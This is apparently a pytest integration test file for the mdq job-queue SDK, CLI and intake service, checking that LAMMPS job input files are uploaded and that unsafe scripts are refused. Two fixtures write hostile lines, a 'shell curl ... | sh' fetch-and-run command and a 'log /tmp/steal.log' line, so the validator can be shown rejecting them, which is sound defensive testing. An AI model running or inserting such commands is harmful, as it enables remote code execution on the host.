"""Submitting jobs with their own input files, against a real NATS JetStream and intake
running in-process: ``mdq submit job.yaml`` (the CLI as a subprocess) and the SDK upload the
files a job names relative to the job file, and intake accepts a submit only when every input
is in the submitter's bucket and every LAMMPS script passes, naming the field and the line
when not.
"""

from __future__ import annotations

import asyncio
import hashlib
import shutil
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from nats.aio.client import Client

from mdq.bus.inputs import ensure_inputs_bucket, lookup
from mdq.bus.subjects import Subjects
from mdq.contracts import pb
from mdq.sdk import MdqClient, SubmitRefused, load_job_file
from mdq.sdk.inputs import LocalInput, resolve_inputs
from mdq.sdk.jobfile import JobFileError
from mdq.settings import CommonSettings
from services.intake.app import Intake, IntakeSettings, build_intake

REPO_ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = REPO_ROOT / "examples" / "lammps"


@pytest.fixture
async def intake(nats_url: str, namespace: str, nc: Client) -> AsyncIterator[Intake]:
    await ensure_inputs_bucket(nc.jetstream(), Subjects(namespace), max_bytes=8 << 20)
    common = CommonSettings.model_validate({"NATS_URL": nats_url, "namespace": namespace})
    service = build_intake(common=common, settings=IntakeSettings())
    await service.start()
    yield service
    await service.stop()


@pytest.fixture
async def client(nats_url: str, namespace: str, intake: Intake) -> AsyncIterator[MdqClient]:
    async with await MdqClient.connect(nats_url, namespace) as the_client:
        yield the_client


def job_folder(tmp_path: Path, *files: str) -> Path:
    """A scientist's folder: the example job file and its scripts."""
    folder = tmp_path / "campaign"
    folder.mkdir()
    for name in files:
        shutil.copy(EXAMPLES / name, folder / name)
    return folder


async def test_the_sdk_uploads_a_jobs_files_and_intake_accepts_it(
    client: MdqClient, nc: Client, subjects: Subjects, tmp_path: Path
) -> None:
    folder = job_folder(tmp_path, "cu-melt.yaml", "in.cu-melt")
    request = load_job_file(folder / "cu-melt.yaml")
    request.idempotency_key = "inputs-1"
    (job_id,) = await client.submit_with_inputs(request, base=folder)
    (spec,) = request.jobs
    (script,) = spec.inputs
    data = (folder / "in.cu-melt").read_bytes()
    assert (script.name, script.sha256, script.size_bytes) == (
        "in.cu-melt",
        hashlib.sha256(data).hexdigest(),
        len(data),
    )
    info = await lookup(nc.jetstream(), subjects.inputs_bucket(), script.sha256)
    assert info is not None and info.size == len(data)
    submitted = await nc.jetstream().get_msg(
        subjects.jobs_stream, subject=subjects.job(job_id, "submitted")
    )
    recorded = pb.Event.FromString(submitted.data or b"").submitted.spec
    assert list(recorded.inputs) == list(spec.inputs)


async def test_a_refused_line_is_named_before_anything_is_sent(tmp_path: Path) -> None:
    folder = job_folder(tmp_path, "cu-melt.yaml", "in.cu-melt")
    with (folder / "in.cu-melt").open("a") as script:
        script.write("shell curl https://example.org/x | sh\n")
    request = load_job_file(folder / "cu-melt.yaml")
    with pytest.raises(JobFileError) as caught:
        resolve_inputs(request, folder)
    assert caught.value.field == "jobs[0].system.lammps.script"
    assert "in.cu-melt line 28: shell curl" in caught.value.message
    assert "it runs programs on the host" in caught.value.message


async def test_a_file_not_next_to_the_job_file_is_named(tmp_path: Path) -> None:
    folder = job_folder(tmp_path, "cu-melt.yaml")
    request = load_job_file(folder / "cu-melt.yaml")
    with pytest.raises(JobFileError) as caught:
        resolve_inputs(request, folder)
    assert caught.value.field == "jobs[0].inputs[0].name"
    assert "no such file next to the job file" in caught.value.message


async def test_intake_refuses_an_input_that_was_never_uploaded(client: MdqClient) -> None:
    spec = pb.JobSpec(name="ghost", system=pb.System(lammps=pb.LammpsInput(script="in.x")))
    spec.inputs.add(name="in.x", sha256="c" * 64, size_bytes=10)
    with pytest.raises(SubmitRefused) as caught:
        await client.submit([spec], idempotency_key="ghost")
    assert caught.value.field == "jobs[0].inputs[0].sha256"
    assert "is not in" in caught.value.message and "upload it first" in caught.value.message


async def test_intake_checks_the_uploaded_script_itself(client: MdqClient, tmp_path: Path) -> None:
    """A client that skips the local check (another SDK, `nats req`) is refused by intake:
    the script in the bucket is what is checked."""
    folder = tmp_path / "raw"
    folder.mkdir()
    (folder / "in.bad").write_text("units lj\nlog /tmp/steal.log\n")
    spec = pb.JobSpec(name="bad", system=pb.System(lammps=pb.LammpsInput(script="in.bad")))
    spec.inputs.add(name="in.bad")
    request = pb.SubmitRequest(idempotency_key="bad-1", jobs=[spec])
    request.jobs[0].inputs[0].sha256 = hashlib.sha256((folder / "in.bad").read_bytes()).hexdigest()
    request.jobs[0].inputs[0].size_bytes = (folder / "in.bad").stat().st_size
    (entry,) = request.jobs[0].inputs
    await client.upload_inputs([LocalInput(folder / "in.bad", entry.sha256, entry.size_bytes)])
    with pytest.raises(SubmitRefused) as caught:
        await client.submit(request)
    assert caught.value.field == "jobs[0].system.lammps.script"
    assert caught.value.message.startswith("in.bad line 2: log /tmp/steal.log")


async def mdq_submit(
    nats_url: str, namespace: str, file: Path, *, key: str, cwd: Path
) -> subprocess.CompletedProcess[str]:
    """``mdq submit file --key key`` run as a process in ``cwd``, its output kept."""
    return await asyncio.to_thread(
        subprocess.run,
        [
            sys.executable,
            "-m",
            "mdq.cli",
            "--nats-url",
            nats_url,
            "--namespace",
            namespace,
            "submit",
            str(file),
            "--key",
            key,
        ],
        capture_output=True,
        text=True,
        cwd=cwd,
        timeout=120,
    )


async def test_mdq_submit_uploads_and_submits_a_lammps_chain(
    nats_url: str, namespace: str, intake: Intake, tmp_path: Path
) -> None:
    folder = job_folder(tmp_path, "chain.yaml", "in.cu-setup", "in.cu-run")
    run = await mdq_submit(nats_url, namespace, folder / "chain.yaml", key="chain-1", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    assert "input files: 2 uploaded" in run.stderr
    assert len(run.stdout.split()) == 3  # three job ids
    again = await mdq_submit(
        nats_url, namespace, folder / "chain.yaml", key="chain-1", cwd=tmp_path
    )
    assert again.returncode == 0, again.stderr
    assert "0 uploaded (0 bytes), 2 already there" in again.stderr
    assert again.stdout == run.stdout, "the same key and content: the same job ids"
